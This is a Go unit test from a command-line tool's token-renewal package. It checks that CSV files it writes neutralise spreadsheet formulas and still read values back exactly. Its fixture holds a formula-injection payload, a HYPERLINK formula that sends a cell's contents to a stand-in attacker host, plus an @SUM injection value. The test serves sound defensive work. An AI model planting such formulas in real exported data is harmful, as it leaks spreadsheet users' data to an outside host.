package renew

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strconv"
	"testing"
	"time"

	"github.com/axero-cli/axero/internal/bulk"
	"github.com/axero-cli/axero/internal/emulator"
)

// TestCSVFilesNeutraliseFormulas: a token name and a user that a
// spreadsheet would evaluate are written inert to NEW and to the failed
// file, and read back exactly, so that both files can be renewed in turn.
func TestCSVFilesNeutraliseFormulas(t *testing.T) {
	srv := emulator.NewTest(t, emulator.Options{Users: 2})
	dir := t.TempDir()
	from, out := filepath.Join(dir, "old.csv"), filepath.Join(dir, "new.csv")
	const name, user = `=HYPERLINK("http://evil.example/?"&F2)`, "@SUM(1+1)"
	w, err := bulk.CreateOutput(from)
	if err != nil {
		t.Fatal(err)
	}
	exp := time.Now().Add(90 * 24 * time.Hour)
	var old []bulk.Record
	for i := range 2 {
		ct, err := srv.MintToken(int64(1001+i), name, &exp, emulator.AdminID)
		if err != nil {
			t.Fatal(err)
		}
		r := bulk.RecordFor(user+strconv.Itoa(i), &ct)
		_ = w.Write(r)
		old = append(old, r)
	}
	_ = w.Close()
	api := newAPI(t, srv, "admin", 2)
	if err := api.RevokeToken(context.Background(), old[1].TokenID); err != nil {
		t.Fatal(err)
	}
	sum, err := run(t, testOptions(api, from, out))
	if err != nil || sum.Renewed != 1 || sum.Failed != 1 {
		t.Fatalf("summary %+v %v", sum, err)
	}
	for _, p := range []string{out, FailedPath(out)} {
		raw, err := os.ReadFile(p) //nolint:gosec // test reads a file it wrote itself in its temporary directory or testdata
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(raw, []byte(",=HYPERLINK")) || bytes.Contains(raw, []byte("\n@SUM")) || !bytes.Contains(raw, []byte("'=HYPERLINK")) {
			t.Fatalf("%s has live formulas:\n%s", p, raw)
		}
	}
	got := readAll(t, out)
	if len(got) != 1 || got[0].Name != name || got[0].User != user+"0" {
		t.Fatalf("NEW reads back as %+v", got)
	}
	back := readAll(t, FailedPath(out))
	if len(back) != 1 || back[0].Name != name || back[0].User != user+"1" || back[0].Token != old[1].Token {
		t.Fatalf("the failed file reads back as %+v", back)
	}
	checkFinal(t, srv, old[:1], out)
}
